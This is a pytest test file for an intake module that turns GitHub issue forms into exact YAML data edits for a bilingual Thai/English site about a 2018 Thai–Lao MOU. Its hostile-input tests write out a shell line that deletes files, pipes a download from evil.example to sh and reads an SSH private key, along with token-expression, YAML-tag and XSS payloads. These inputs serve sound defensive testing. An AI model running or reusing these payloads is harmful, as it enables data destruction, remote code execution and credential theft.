"""The form intake (thlao/intake.py): recorded issue forms become exact data edits; hostile or
mistaken forms change nothing, or are stored exactly as plain text.

Most tests run on a small data folder of their own (tests/fixtures/intake/data/, a few records
taken from data/ with their layouts varied on purpose) with the repository's own forms, schemas,
labels and terms, and the build's day pinned (SOURCE_DATE_EPOCH), so no test depends on what
data/ says today. One test fills the real form for a record of the real data, then builds the
site and reads the record's page.
"""
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from thlao import dates, intake

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "tests/fixtures/intake"
FORMS = ROOT / ".github/ISSUE_TEMPLATE"
EPOCH = "1768435200"  # 15 January 2026 in Thailand: "today" for every date these tests give
MKDOCS = "site_name: intake test\nplugins:\n  - thlao:\n      data_dir: data\n      schemas_dir: schemas\n" \
         "      labels_dir: labels\n      terms_file: terms.yml\n"
DATA_FILES = ("activities", "agreements", "areas", "events", "glossary", "organizations", "questions",
              "related", "remarks", "sources", "trainings")


@pytest.fixture
def site(tmp_path, monkeypatch):
    """A folder laid out like the repository: mkdocs.yml, the fixture data, the real forms."""
    root = tmp_path / "site"
    shutil.copytree(FIXTURES / "data", root / "data")
    for name in ("schemas", "labels"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "terms.yml", root / "terms.yml")
    shutil.copytree(FORMS, root / ".github/ISSUE_TEMPLATE")
    (root / "mkdocs.yml").write_text(MKDOCS, encoding="utf-8")
    monkeypatch.chdir(root)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    return root


def event_file(folder: Path, body: str, labels=("status-update", "accepted")) -> Path:
    """The recorded issues event, with this body and these labels."""
    payload = json.loads((FIXTURES / "event.json").read_text(encoding="utf-8"))
    payload["issue"]["body"] = body
    payload["issue"]["labels"] = [{"name": name} for name in labels]
    path = folder / "event.json"
    path.write_text(json.dumps(payload, ensure_ascii=False), encoding="utf-8")
    return path


def run(site: Path, body: str, labels=("status-update", "accepted")):
    """(exit code, standard output, standard error) of the intake, in this process."""
    out, err = io.StringIO(), io.StringIO()
    code = intake.run(event_file(site.parent, body, labels), site / "mkdocs.yml", out, err)
    return code, out.getvalue(), err.getvalue()


def recorded(name: str) -> str:
    return (FIXTURES / name).read_bytes().decode("utf-8")


def files(site: Path) -> dict:
    return {name: (site / "data" / f"{name}.yml").read_bytes() for name in DATA_FILES}


def records(site: Path, name: str) -> list:
    return yaml.load((site / "data" / f"{name}.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)


# ---------------------------------------------------------------- recorded forms, exact edits

# The lines each edit adds or replaces, written out by hand. Everything else must stay byte for byte.
NEW_ENTRY = """\
    - date: 2025-11-20
      status: implementation
      note:
        th: "บริษัทไปรษณีย์ทั้งสองฝ่ายลงนามบันทึกความเข้าใจ\\nและเริ่มบริการเก็บเงินปลายทาง: ตามข่าว \\"ไทยรัฐ\\""
        en: "The two postal companies signed an MOU; cash on delivery began: as the report says."
      sources: [nation-2025-11, thairath-2025-11]
"""
THAIRATH = """
- id: thairath-2025-11
  description:
    th: "ข่าวการประชุมความร่วมมือด้านไปรษณีย์ครั้งที่ 29"
    en: "Report on the 29th postal cooperation meeting."
  publisher:
    th: "ไทยรัฐ"
    en: "Thairath"
  url: "https://www.thairath.co.th/news/local/2885000"
  published: 2025-11-21
  language: th
"""


def status_update_expected(activities: str) -> str:
    """activities.yml after the recorded status update of mou-2018-posts-telecom (the first record)."""
    head, rest = activities.split("- id: mou-2018-posts-telecom\n", 1)
    record, tail = rest.split("\n- id: mou-2018-broadband\n", 1)
    old = "  status: not-reported\n  confirmed: 2018-02\n  sources: [reporter-2018]\n"
    assert old in record
    record = record.replace(old, "  status: implementation\n  confirmed: 2025-11-20\n"
                                 "  sources: [reporter-2018, nation-2025-11, thairath-2025-11]\n")
    return f"{head}- id: mou-2018-posts-telecom\n{record.rstrip(chr(10))}\n{NEW_ENTRY}\n- id: mou-2018-broadband\n{tail}"


def test_status_update_with_a_new_source_becomes_exactly_this_edit(site):
    before = files(site)
    code, out, err = run(site, recorded("status-update.md"))
    assert (code, err) == (0, "")
    after = files(site)
    assert after["activities"].decode() == status_update_expected(before["activities"].decode())
    assert after["sources"].decode() == before["sources"].decode() + THAIRATH
    assert {n: b for n, b in after.items() if n not in ("activities", "sources")} == \
        {n: b for n, b in before.items() if n not in ("activities", "sources")}
    # the summary for the pull request, in both languages, with the words of the labels files
    th_words = yaml.safe_load((ROOT / "labels/th.yml").read_text(encoding="utf-8"))["item_status"]
    en_words = yaml.safe_load((ROOT / "labels/en.yml").read_text(encoding="utf-8"))["item_status"]
    shown = out.replace("\\", "")  # the summary escapes what Markdown could read as markup
    assert "Closes #12" in out
    assert f"{th_words['not-reported']} → {th_words['implementation']}" in shown
    assert f"{en_words['not-reported']} → {en_words['implementation']}" in shown


def test_the_same_edit_keeps_a_crlf_data_file_crlf(site):
    path = site / "data/activities.yml"
    lf = path.read_text(encoding="utf-8")
    path.write_bytes(lf.replace("\n", "\r\n").encode("utf-8"))
    code, _, err = run(site, recorded("status-update.md"))
    assert (code, err) == (0, "")
    assert path.read_bytes().decode("utf-8") == status_update_expected(lf).replace("\n", "\r\n")


def test_status_update_of_a_record_laid_out_otherwise(site):
    # quoted values with a comment after them, a history list at the key's own indentation,
    # sources as a block list after history, a comment at the end of the file; the body has
    # CRLF line ends and names the record and one source by their links
    before = files(site)["activities"].decode()
    code, _, err = run(site, recorded("status-update-other-layout.md"))
    assert (code, err) == (0, "")
    expected = before.replace('  status: "not-reported"   # as the 2018 report gives it\n'
                              "  confirmed: '2018-02'\n",
                              "  status: pipeline   # as the 2018 report gives it\n"
                              "  confirmed: 2025-11\n")
    expected = expected.replace("    sources:\n    - reporter-2018\n  # sources comes after",
                                "    sources:\n    - reporter-2018\n"
                                "  - date: 2025-11\n"
                                "    status: pipeline\n"
                                "    note:\n"
                                '      th: "มีรายงานว่ากำลังเตรียมการ"\n'
                                '      en: "Reported as being prepared."\n'
                                "    sources: [nation-2025-11, reporter-2018]\n"
                                "  # sources comes after")
    expected = expected.replace("  sources:\n    - reporter-2018\n# the end",
                                "  sources:\n    - reporter-2018\n    - nation-2025-11\n# the end")
    assert expected.count("- date: 2025-11\n") == 1 and "- nation-2025-11\n# the end" in expected
    assert files(site)["activities"].decode() == expected


def test_new_related_development_with_its_period_and_a_new_source(site):
    before = files(site)
    code, out, err = run(site, recorded("new-related.md"), ("new-related", "accepted"))
    assert (code, err) == (0, "")
    after = files(site)
    assert after["related"].decode() == before["related"].decode() + """
- id: thai-lao-postal-companies-2025-11
  date: 2025-11
  period: after
  title:
    th: "บริษัทไปรษณีย์ของไทยและของลาวลงนามบันทึกความเข้าใจ"
    en: "The Thai and Lao postal companies sign an MOU"
  description:
    th: "ลงนามที่นครหลวงเวียงจันทน์ ระหว่างบริษัทไปรษณีย์ ไม่ใช่ระหว่างกระทรวง"
    en: "Signed in Vientiane, between the postal companies, not the ministries."
  areas: [posts-telecom, broadband]
  place:
    th: "นครหลวงเวียงจันทน์"
    en: "Vientiane"
  sources: [nation-2025-11-2]
"""
    # nation-2025-11 is taken: the new source's id is made unique
    assert after["sources"].decode() == before["sources"].decode() + """
- id: nation-2025-11-2
  headline:
    en: "Thailand Post, Lao Post: \\"29th meeting\\" sealed"
  description:
    th: "ข่าวภาษาอังกฤษเรื่องการลงนาม"
    en: "Report on the signing."
  publisher:
    th: "The Nation"
    en: "The Nation"
  url: "https://www.nationthailand.com/news/asean/40059000"
  published: 2025-11-24
  language: en
"""
    assert after["activities"] == before["activities"]
    assert "thai\\-lao\\-postal" not in out and "`thai-lao-postal-companies-2025-11`" in out


def test_new_source_with_the_clerks_own_id(site):
    before = files(site)["sources"].decode()
    code, _, err = run(site, recorded("new-source.md"), ("new-source", "accepted"))
    assert (code, err) == (0, "")
    assert files(site)["sources"].decode() == before + """
- id: mtc-annual-report
  description:
    th: "รายงานประจำปีของกระทรวง"
    en: "The ministry's annual report."
  publisher:
    th: "กระทรวงเทคโนโลยีและการสื่อสาร สปป.ลาว"
    en: "Ministry of Technology and Communications (MTC)"
  url: "https://example.org/report?id=7&lang=lo#part-2"
  published: unknown
  language: lo
"""


def test_made_ids_follow_the_id_rule_and_stay_unique():
    taken = {"thairath-2026-03"}
    assert intake.make_id("Thairath", "2026-03-15", taken, publisher=True) == "thairath-2026-03-2"
    assert intake.make_id("www.Bangkokpost.com", "2022", set(), publisher=True) == "bangkokpost-2022"
    assert intake.make_id("Asian Development Bank (ADB)", "unknown", set(), publisher=True) == "adb"
    assert intake.make_id("The Thai digital minister visits Nong Khai", "2022-05-07", set()) == \
        "thai-digital-minister-visits-2022-05"
    assert intake.make_id("ไทยรัฐ", "2026-03", set(), publisher=True, fallback="source") == "source-2026-03"
    assert intake.make_id("Café Ünïcode—Test", None, set()) == "cafe-unicode-test"


# ---------------------------------------------------------------- a related development's period

def related_body(date: str, period: str = "_No response_") -> str:
    text = recorded("new-related.md")
    text = text.replace("### วันที่ · Date\n\n2025-11\n", f"### วันที่ · Date\n\n{date}\n")
    return text.replace("### ก่อนหรือหลังบันทึกความเข้าใจ พ.ศ. 2561 · Before or after the 2018 MOU\n\n_No response_",
                        f"### ก่อนหรือหลังบันทึกความเข้าใจ พ.ศ. 2561 · Before or after the 2018 MOU\n\n{period}")


@pytest.mark.parametrize("date, period", [("2016-06", "before"), ("2018-01-31", "before"), ("2018-03", "after")])
def test_period_is_worked_out_from_the_date(site, date, period):
    code, _, err = run(site, related_body(date), ("new-related", "accepted"))
    assert (code, err) == (0, "")
    assert records(site, "related")[-1]["period"] == period


@pytest.mark.parametrize("date", ["2018", "2018-02", "2018-02-10"])
def test_a_date_that_cannot_be_placed_is_asked_about(site, date):
    before = files(site)
    code, _, err = run(site, related_body(date), ("new-related", "accepted"))
    assert code == 1 and files(site) == before
    assert 'Form field "Date": "' + date + '" cannot be placed before or after the 2018 MOU' in err
    assert 'ช่อง "วันที่"' in err and "Before or after the 2018 MOU" in err
    # answered in the form, it is taken
    code, _, err = run(site, related_body(date, "before — ก่อนบันทึกความเข้าใจ พ.ศ. 2561 · Before the 2018 MOU"),
                       ("new-related", "accepted"))
    assert (code, err) == (0, "") and records(site, "related")[-1]["period"] == "before"


def test_a_period_answer_that_contradicts_the_date_is_refused(site):
    code, _, err = run(site, related_body("2016-06", "after — หลังบันทึกความเข้าใจ พ.ศ. 2561 · After the 2018 MOU"),
                       ("new-related", "accepted"))
    assert code == 1 and 'Form field "Before or after the 2018 MOU": is "after"' in err


# ---------------------------------------------------------------- hostile answers

def with_answer(body: str, label: str, value: str) -> str:
    """body with the answer under `### label` replaced by value."""
    head, rest = body.split(f"### {label}\n\n", 1)
    _, _, tail = rest.partition("\n\n### ")
    return f"{head}### {label}\n\n{value}" + (f"\n\n### {tail}" if tail else "")


NOTE_EN = "อะไรเปลี่ยน (ภาษาอังกฤษ) · What changed (English)"
HOSTILE = {
    "shell": "done; rm -rf / && $(curl evil.example | sh) `id` > /dev/null | cat ~/.ssh/id_rsa",
    "expression": "${{ github.token }} ${{ secrets.GITHUB_TOKEN }} {{ config.repo_url }} {% raw %}",
    "new record": "ok\n\n- id: evil\n  kind: area\n  status: closed\nsources: [x]",
    "break out": 'a" \\\nstatus: closed # "\n  - id: evil\n\'\' \\" \\\\',
    "yaml syntax": "- *alias &anchor !!python/object:os.system ? : | > % @ ` --- ...",
    "markdown": "@maintainers <img src=x onerror=alert(1)> [x](javascript:alert(1)) #1 **b**",
    "unicode": "ไทย 😀 zero\u200bwidth joiner\u200d é ŉ ﷺ",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_stored_exactly_as_plain_text(site, name):
    text = HOSTILE[name]
    before = {n: records(site, n) for n in DATA_FILES}
    code, out, err = run(site, with_answer(recorded("status-update.md"), NOTE_EN, text))
    assert (code, err) == (0, "")
    after = {n: records(site, n) for n in DATA_FILES}
    assert [r["id"] for r in after["activities"]] == [r["id"] for r in before["activities"]]
    assert after["activities"][1] == before["activities"][1]
    assert after["activities"][0]["history"][-1]["note"]["en"] == text.replace("\r\n", "\n").strip()
    assert after["activities"][0]["status"] == "implementation"
    assert all(after[n] == before[n] for n in DATA_FILES if n not in ("activities", "sources"))
    # in the summary, no markup, mention or tag comes through
    for markup in ("<img", "@maintainers", "](javascript", "**b", "${{", "`id`"):
        assert not re.search(r"(?<!\\)" + re.escape(markup), out), markup


@pytest.mark.parametrize("text, reason", [
    ("x" * 100_000, "characters long"),
    ("fine \u202e txet desrever", "U+202E"),
    ("private \ue000 use", "U+E000"),
    ("bell \x07 rings", "U+0007"),
])
def test_hostile_text_that_cannot_be_stored_is_refused_and_changes_nothing(site, text, reason):
    before = files(site)
    code, out, err = run(site, with_answer(recorded("status-update.md"), NOTE_EN, text))
    assert code == 1 and out == "" and files(site) == before
    assert 'Form field "What changed (English)": ' in err and reason in err
    assert 'ช่อง "อะไรเปลี่ยน (ภาษาอังกฤษ)": ' in err


def test_a_heading_smuggled_into_an_answer_is_refused(site):
    smuggled = "fine\n\n### รายการใด · Which MOU item\n\nmou-2018-broadband"
    before = files(site)
    code, _, err = run(site, with_answer(recorded("status-update.md"), NOTE_EN, smuggled))
    assert code == 1 and files(site) == before
    assert 'Form field "Which MOU item": its heading' in err and "appears more than once" in err


def test_hostile_link_and_id_are_refused(site):
    body = with_answer(recorded("status-update.md"), "แหล่งที่มาใหม่ ลิงก์ · New source, web address",
                       "javascript:alert(1)//https://x")
    body = with_answer(body, "แหล่งที่มาใหม่ รหัส (ไม่บังคับ) · New source, id (optional)", "evil\n- id: x")
    before = files(site)
    code, _, err = run(site, body)
    assert code == 1 and files(site) == before
    assert 'Form field "New source, web address": "javascript:alert(1)//https://x" is not a web address' in err
    assert 'Form field "New source, id (optional)": must be one line' in err


# ---------------------------------------------------------------- mistakes a clerk makes

MISTAKES = [
    ("รายการใด · Which MOU item", "mou-2018-brodband",
     ['Form field "Which MOU item": "mou-2018-brodband" is not an id in activities.yml. Did you mean "mou-2018-broadband"?',
      'ช่อง "รายการใด": ไม่มีรหัส "mou-2018-brodband" ใน activities.yml หมายถึง "mou-2018-broadband" หรือไม่']),
    ("สถานะใหม่ · New status", "implimentation",
     ['Form field "New status": "implimentation" is not allowed. Did you mean "implementation"',
      "Allowed values: pipeline (Pipeline), implementation (Implementation)", "ค่าที่ใช้ได้: pipeline (อยู่ระหว่างริเริ่ม)"]),
    ("วันที่ของแหล่งที่มา · Date of the source", "2568-11-20",
     ['Form field "Date of the source": "2568-11-20" is after today. Write years in the Common Era '
      "(Buddhist Era 2568 is 2025).", "ให้เขียนปีเป็น ค.ศ."]),
    ("วันที่ของแหล่งที่มา · Date of the source", "2025-02-30",
     ['Form field "Date of the source": "2025-02-30" is not a real date']),
    ("วันที่ของแหล่งที่มา · Date of the source", "20/11/2025",
     ['Form field "Date of the source": "20/11/2025" is not a date. Write a day (2026-03-15)']),
    ("วันที่ของแหล่งที่มา · Date of the source", "2017",
     ["is before the item's latest history entry (2018-02)"]),
    ("แหล่งที่มาใหม่ ลิงก์ · New source, web address", "www.thairath.co.th/news/1",
     ['Form field "New source, web address": "www.thairath.co.th/news/1" is not a web address. '
      "It must start with http:// or https://"]),
    ("อะไรเปลี่ยน (ภาษาอังกฤษ) · What changed (English)", "_No response_",
     ['Form field "What changed (English)": is empty. Fill it in: it is required. / '
      'ช่อง "อะไรเปลี่ยน (ภาษาอังกฤษ)": ว่างอยู่ ต้องกรอกช่องนี้']),
    ("แหล่งที่มาที่มีอยู่แล้ว · Sources already on the site", "nation-2025-12",
     ['"nation-2025-12" is not an id in sources.yml. Did you mean "nation-2025-11"']),
    ("แหล่งที่มาใหม่ ผู้เผยแพร่ (ภาษาอังกฤษ) · New source, publisher (English)", "_No response_",
     ['Form field "New source, publisher (English)": is empty.']),
    ("ข้อมูลส่วนบุคคล · Personal data", "- [ ] ไม่มีข้อมูลส่วนบุคคลในคำขอนี้ · This request contains no personal data.",
     ['Form field "Personal data": is not ticked.']),
]


@pytest.mark.parametrize("label, value, messages", MISTAKES, ids=[f"{m[0].split(' · ')[1]}={m[1][:20]}" for m in MISTAKES])
def test_a_mistake_is_named_by_its_field_in_both_languages_and_changes_nothing(site, label, value, messages):
    before = files(site)
    code, out, err = run(site, with_answer(recorded("status-update.md"), label, value))
    assert code == 1 and out == "" and files(site) == before
    for message in messages:
        assert message in err
    lines = err.strip().split("\n")
    assert all(" / " in line for line in lines)  # English / Thai, as the data check writes them
    assert lines[-1].startswith("1 problem(s): nothing was changed.")


def test_every_mistake_is_said_in_one_run(site):
    body = recorded("status-update.md")
    for label, value, _ in MISTAKES[:3]:
        body = with_answer(body, label, value)
    code, _, err = run(site, body)
    assert code == 1 and "3 problem(s)" in err


def test_a_note_the_data_check_refuses_is_refused_with_its_message(site):
    # terms.yml's preferred words are the data check's rule: the intake passes its message on
    term = yaml.safe_load((site / "terms.yml").read_text(encoding="utf-8"))[0]
    variant = term["variants"][0]
    label = NOTE_EN if term["lang"] == "en" else "อะไรเปลี่ยน (ภาษาไทย) · What changed (Thai)"
    before = files(site)
    code, _, err = run(site, with_answer(recorded("status-update.md"), label, f"Reported by {variant}."))
    assert code == 1 and files(site) == before
    assert "The data check refuses the edit this form makes." in err
    assert 'data/activities.yml:' in err and f'uses "{variant}"' in err


def test_a_form_without_its_label_or_with_two_is_refused(site):
    assert run(site, recorded("status-update.md"), ("accepted",))[0] == 1
    code, _, err = run(site, recorded("status-update.md"), ("status-update", "new-source", "accepted"))
    assert code == 1 and "Cannot tell which form this issue comes from" in err


# ---------------------------------------------------------------- left for a person

def test_a_correction_is_checked_and_left_for_a_person(site):
    before = files(site)
    code, out, err = run(site, recorded("correction.md"), ("correction", "accepted"))
    assert (code, err) == (2, "") and files(site) == before
    assert "`activities/mou-2018-broadband`" in out and "Left for a maintainer" in out
    wrong = with_answer(recorded("correction.md"), "รายการหรือหน้าใด · Which record or page", "activities/mou-2018-brodband")
    code, _, err = run(site, wrong, ("correction", "accepted"))
    assert code == 1 and 'Did you mean "mou-2018-broadband"?' in err


def test_data_that_already_has_problems_is_left_for_a_person(site):
    path = site / "data/activities.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("  kind: area\n", "  kind: arae\n", 1), encoding="utf-8")
    before = files(site)
    code, out, _ = run(site, recorded("status-update.md"))
    assert code == 2 and files(site) == before and '"arae" is not allowed' in out


# ---------------------------------------------------------------- the command, its exit codes

def command(site: Path, body: str, labels, *more) -> subprocess.CompletedProcess:
    env = dict(os.environ, SOURCE_DATE_EPOCH=EPOCH, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "thlao.intake", str(event_file(site.parent, body, labels)), *more],
                          cwd=site, env=env, capture_output=True, text=True, timeout=120)


def test_exit_codes_of_the_command(site):
    bad = command(site, with_answer(recorded("status-update.md"), "สถานะใหม่ · New status", "done"),
                  ("status-update", "accepted"))
    assert (bad.returncode, bad.stdout) == (1, "") and 'Form field "New status"' in bad.stderr
    person = command(site, recorded("correction.md"), ("correction", "accepted"))
    assert (person.returncode, person.stderr) == (2, "") and "Left for a maintainer" in person.stdout
    good = command(site, recorded("status-update.md"), ("status-update", "accepted"),
                   "--commit-message", str(site.parent / "commit.txt"))
    assert (good.returncode, good.stderr) == (0, "") and good.stdout.startswith("## ")
    message = (site.parent / "commit.txt").read_text(encoding="utf-8")
    assert message.startswith("Data: status of mou-2018-posts-telecom from issue #12\n")
    assert message.endswith("\n\nCo-authored-by: somchai-k <583231+somchai-k@users.noreply.github.com>\n")


# ---------------------------------------------------------------- the forms themselves

def load_form(name: str) -> dict:
    return yaml.safe_load((FORMS / name).read_text(encoding="utf-8"))


def test_forms_give_each_field_a_unique_label_in_thai_and_english():
    for path in sorted(FORMS.glob("*.yml")):
        form = load_form(path.name)
        if "body" not in form:
            continue
        labels = [f["attributes"]["label"] for f in form["body"] if f["type"] != "markdown"]
        assert len(labels) == len(set(labels)), path.name
        assert all(len(label.split(" · ")) == 2 for label in labels), path.name


def test_every_form_is_one_the_intake_reads(site):
    # an empty body: each form's required fields are named, so the intake knows the form
    for path in sorted(FORMS.glob("*.yml")):
        form = load_form(path.name)
        if "body" not in form:
            continue
        code, _, err = run(site, "", (*form["labels"], "accepted"))
        required = [f["attributes"]["label"].split(" · ")[1] for f in form["body"]
                    if f.get("validations", {}).get("required")]
        assert code == 1, path.name
        for label in required:
            assert f'Form field "{label}": ' in err, (path.name, label)


def test_dropdowns_offer_exactly_the_codes_the_schemas_allow():
    schema = {p.name.removesuffix(".schema.json"): json.loads(p.read_text(encoding="utf-8"))
              for p in (ROOT / "schemas").glob("*.schema.json")}
    allowed = {"status": schema["common"]["$defs"]["status"]["enum"],
               "kind": schema["activities"]["items"]["properties"]["kind"]["enum"],
               "source-language": schema["sources"]["items"]["properties"]["language"]["enum"],
               "period": schema["related"]["items"]["properties"]["period"]["enum"]}
    seen = set()
    for path in sorted(FORMS.glob("*.yml")):
        for field in load_form(path.name).get("body", []):
            if field.get("id") in allowed:
                assert [o.split(" ")[0] for o in field["attributes"]["options"]] == allowed[field["id"]], path.name
                seen.add(field["id"])
    assert seen == set(allowed)


def test_record_and_area_ids_are_typed_never_chosen_from_a_copy_of_the_data():
    # the only dropdowns are the schemas' codelists above: a record added by a direct file edit
    # can never make a form stale
    dropdowns = {f["id"] for path in FORMS.glob("*.yml") for f in load_form(path.name).get("body", [])
                 if f["type"] == "dropdown"}
    assert dropdowns == {"status", "kind", "source-language", "period"}
    for name, field in (("status-update.yml", "record"), ("new-related.yml", "areas"), ("new-item.yml", "area"),
                        ("new-item.yml", "agreement"), ("correction.yml", "record")):
        found = next(f for f in load_form(name)["body"] if f.get("id") == field)
        assert found["type"] == "input", (name, field)


# ---------------------------------------------------------------- end to end, on the real data

def fill(form_name: str, answers: dict) -> str:
    """The body GitHub writes for this form filled in with answers (field id -> text)."""
    form = load_form(form_name)
    return "\n\n".join(f"### {f['attributes']['label']}\n\n{answers.get(f['id']) or '_No response_'}"
                       for f in form["body"] if f["type"] != "markdown")


def test_a_form_on_the_real_data_shows_on_the_built_site(tmp_path):
    repo = tmp_path / "repo"
    for name in ("docs", "data", "schemas", "labels", "overrides", "thlao", ".github"):
        shutil.copytree(ROOT / name, repo / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("mkdocs.yml", "terms.yml"):
        shutil.copy(ROOT / name, repo / name)
    activities = yaml.load((repo / "data/activities.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
    item = activities[0]  # whichever record comes first today
    status = next(s for s in ("implementation", "pipeline") if s != item["status"])
    today = dates.build_date({}).isoformat()  # the real today: the real data's dates are all before it
    sources = yaml.load((repo / "data/sources.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
    body = fill("status-update.yml", {
        "record": item["id"], "status": status, "date": today,
        "note-th": "ทดสอบจากแบบฟอร์ม: ขั้นตอนแรก", "note-en": "From the form: the first step.",
        "source-ids": sources[0]["id"],
        "source-url": "https://example.org/intake-test", "source-publisher-th": "ตัวอย่าง",
        "source-publisher-en": "Example Org", "source-date": today, "source-language": "en",
        "source-description-th": "แหล่งที่มาสำหรับทดสอบ", "source-description-en": "A source for the test.",
        "no-personal-data": "- [X] ไม่มีข้อมูลส่วนบุคคลในคำขอนี้ · This request contains no personal data.",
    }).replace("\n", "\r\n")
    env = dict(os.environ, PYTHONPATH=str(repo), NO_MKDOCS_2_WARNING="1")
    env.pop("SOURCE_DATE_EPOCH", None)
    run_intake = subprocess.run([sys.executable, "-m", "thlao.intake", str(event_file(tmp_path, body))],
                                cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert (run_intake.returncode, run_intake.stderr) == (0, "")
    build = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(tmp_path / "site")],
                           cwd=repo, env=env, capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, build.stdout + build.stderr
    for lang, prefix in (("th", ""), ("en", "en/")):
        words = yaml.safe_load((ROOT / f"labels/{lang}.yml").read_text(encoding="utf-8"))
        page = BeautifulSoup((tmp_path / "site" / prefix / "items" / item["id"] / "index.html").read_text("utf-8"),
                             "html.parser")
        shown = [s.get_text(strip=True) for s in page.select("article .status")]
        assert words["item_status"][status] in shown, (lang, shown)
        assert ("ทดสอบจากแบบฟอร์ม: ขั้นตอนแรก" if lang == "th" else "From the form: the first step.") in \
            page.select_one("article").get_text()


# ---------------------------------------------------------------- the workflow that runs it

def expressions_in_scripts(workflow: dict) -> list:
    """(job, step) of every `run:` script holding a ${{ }} expression (values must come through env)."""
    return [(name, step.get("name")) for name, job in workflow["jobs"].items()
            for step in job.get("steps", []) if "${{" in step.get("run", "")]


def test_the_workflow_gives_the_issue_text_to_no_shell_and_writes_only_where_it_must():
    text = (ROOT / ".github/workflows/intake.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    assert "issue.body" not in text and "issue.title" not in text  # Python reads them from the event file
    assert expressions_in_scripts(workflow) == []
    assert all(isinstance(job["timeout-minutes"], int) for job in workflow["jobs"].values())
    assert workflow["permissions"] == {}
    assert workflow["jobs"]["intake"]["permissions"] == {"contents": "read"}  # the job that reads the issue
    writers = {name for name, job in workflow["jobs"].items() if "write" in job["permissions"].values()}
    assert writers == {"pull-request", "report"}
    # a negative control: an expression pasted into a script is found
    bad = {"jobs": {"j": {"steps": [{"name": "s", "run": "echo ${{ github.event.issue.body }}"}]}}}
    assert expressions_in_scripts(bad) == [("j", "s")]
